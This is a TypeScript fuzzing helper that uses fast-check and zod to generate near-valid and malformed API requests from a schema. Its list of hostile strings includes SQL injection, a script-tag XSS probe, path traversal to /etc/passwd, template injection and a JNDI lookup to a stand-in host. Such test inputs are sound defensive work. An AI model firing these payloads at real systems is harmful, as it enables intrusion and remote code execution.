import fc from 'fast-check';
import { z } from 'zod';

/** As much of a JSON schema as the contract's schemas become. */
interface Schema {
  type?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  anyOf?: Schema[];
  enum?: unknown[];
  const?: unknown;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  maxItems?: number;
}

const hostileTexts = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  '\u202e',
  "'; drop table units; --",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%00',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  'a'.repeat(300),
  'jana@example.cz',
  '2025-02-29',
  '9999-12-31T23:59:59Z',
  '0000-01-01T00:00:00Z',
  'NaN',
];

const text = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
);
const numbers = fc.constantFrom(
  0,
  -0,
  -1,
  1,
  0.1,
  1e308,
  -1e308,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 53,
  5e-324,
);

/** Anything that JSON can carry. */
const anything: fc.Arbitrary<unknown> = fc.oneof(
  text,
  numbers,
  fc.constantFrom(null, true, false, [], {}, [[]]),
  fc.jsonValue({ maxDepth: 3 }),
);

function objectOf({ properties = {}, required = [] }: Schema, ids: Ids): fc.Arbitrary<unknown> {
  const fields = Object.entries(properties).map(([name, schema]) => [
    name,
    fieldOf(name, schema, ids),
  ]);
  const record = fc.record(Object.fromEntries(fields) as Record<string, fc.Arbitrary<unknown>>, {
    requiredKeys: required,
  });
  const more = fc.dictionary(fc.string({ maxLength: 10 }), anything, { maxKeys: 2 });
  return fc.tuple(record, fc.option(more, { freq: 10, nil: {} })).map(([known, unknown]) => ({
    ...unknown,
    ...known,
  }));
}

const LONGEST_MADE = 100_000;

function textOf({ maxLength = 200 }: Schema): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.string({ unit: 'grapheme', minLength: 3, maxLength: Math.min(maxLength, 40) }),
    // A file of megabytes is not made character by character.
    maxLength > LONGEST_MADE
      ? fc.constantFrom(maxLength, maxLength + 1).map((length) => 'x'.repeat(length))
      : fc.string({ minLength: maxLength, maxLength: maxLength + 1 }),
    text,
  );
}

function typed(schema: Schema, ids: Ids): fc.Arbitrary<unknown> {
  const { minimum = -10, maximum = 10_000 } = schema;
  const whole = { min: Math.max(minimum, -(2 ** 31)), max: Math.min(maximum, 2 ** 31) };
  if (schema.type === 'object') return objectOf(schema, ids);
  if (schema.type === 'array') {
    const size = { maxLength: Math.min(schema.maxItems ?? 5, 5) };
    return fc.array(arbitraryOf(schema.items ?? {}, ids), size);
  }
  if (schema.type === 'string') return textOf(schema);
  if (schema.type === 'integer') return fc.integer(whole);
  if (schema.type === 'number') return fc.double({ ...whole, noNaN: true });
  if (schema.type === 'boolean') return fc.boolean();
  return schema.type === 'null' ? fc.constant(null) : anything;
}

function arbitraryOf(schema: Schema, ids: Ids): fc.Arbitrary<unknown> {
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  if ('const' in schema) return fc.constant(schema.const);
  if (schema.anyOf !== undefined)
    return fc.oneof(...schema.anyOf.map((one) => arbitraryOf(one, ids)));
  return typed(schema, ids);
}

/** Ids worth naming, by the name of the field. */
export type Ids = Readonly<Record<string, readonly unknown[]>>;

function fieldOf(name: string, schema: Schema, ids: Ids): fc.Arbitrary<unknown> {
  const usual = arbitraryOf(schema, ids);
  const known = ids[name];
  const right =
    known === undefined
      ? usual
      : fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...known) }, usual);
  return fc.oneof({ weight: 14, arbitrary: right }, { weight: 1, arbitrary: anything });
}

type Fields = Record<string, unknown>;

/** The valid request with a few of its fields made anew. */
function changed(valid: Fields, described: Schema, ids: Ids): fc.Arbitrary<unknown> {
  const all = Object.keys(described.properties ?? {});
  const names = fc.subarray(all, { maxLength: Math.min(3, all.length) });
  const made = objectOf({ ...described, required: [] }, ids);
  return fc.tuple(names, made).map(([picked, fields]) => {
    const given = new Map(Object.entries(fields as Fields));
    const anew = picked.filter((name) => given.has(name)).map((name) => [name, given.get(name)]);
    return { ...valid, ...Object.fromEntries(anew) };
  });
}

/** Requests near a valid one, requests as the schema has them, and now and then anything at all. */
export function requestsOf(schema: z.ZodObject, valid: Fields, ids: Ids): fc.Arbitrary<unknown> {
  const described = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as Schema;
  return fc.oneof(
    { weight: 12, arbitrary: changed(valid, described, ids) },
    { weight: 7, arbitrary: objectOf(described, ids) },
    { weight: 1, arbitrary: anything },
  );
}
